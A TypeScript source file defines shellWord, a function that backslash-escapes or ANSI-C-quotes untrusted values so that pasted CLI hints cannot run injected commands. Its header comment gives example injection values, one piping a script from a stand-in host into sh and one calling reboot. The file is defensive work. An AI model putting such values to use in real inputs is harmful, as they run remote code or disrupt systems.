/**
 * A value in a command line printed for a user to copy and run. Task queues, paths and backfill
 * ids read from the server may hold anything (a spec author, a caller of Temporal's own CLI
 * chooses them): `q; curl evil.sh | sh` or `$(reboot)` written as they are would make the pasted
 * hint run them.
 */

/** Characters that mean nothing to a POSIX shell inside a word: a value of only these is shown as it is. */
const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * What a terminal would act on or show as something else (C0 and C1 controls, DEL, line and
 * paragraph separators, format characters such as bidi overrides): raw, a line break in a queue's
 * name would print a line of the attacker's choosing in the hint.
 */
const INVISIBLE = /^[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]$/u;

/** `c`'s UTF-8 bytes as ANSI-C quoting's octal escapes (`\342\200\256`). */
function octalBytes(c: string): string {
  // encodeURIComponent: UTF-8 in every runtime, the workflow sandbox's too.
  return encodeURIComponent(c).replace(/%([0-9A-F]{2})/g, (_, hex: string) => `\\${parseInt(hex, 16).toString(8).padStart(3, '0')}`);
}

/** One character of a value as a shell word writes it: as it is, a control or format character as ANSI-C quoting's octal bytes, any other with a backslash. */
function wordChar(c: string): string {
  if (PLAIN.test(c)) return c;
  return INVISIBLE.test(c) ? `$'${octalBytes(c)}'` : `\\${c}`;
}

/**
 * `value` as one shell word: as it is when made only of PLAIN characters, else each other
 * character after a backslash, not single-quoted: hints print a command between single quotes
 * (`start one with 'backfill worker --task-queue …'`), and a quoted word inside those would be
 * outside quotes for whoever copies the command with its marks (`$(…)` then runs). Backslashed,
 * the copy with its marks is one word the shell runs nothing of, and the command alone gives the
 * value back. A control or format character is written `$'\ooo'` (ANSI-C quoting, POSIX.1-2024;
 * bash, zsh, ksh, busybox sh), so the text holds none of them: a shell without it (an older dash)
 * reads `$\ooo` literally, still inside the one word, running nothing. The empty value is `''`.
 */
export function shellWord(value: string): string {
  if (PLAIN.test(value)) return value;
  if (value === '') return "''";
  return [...value].map(wordChar).join('');
}
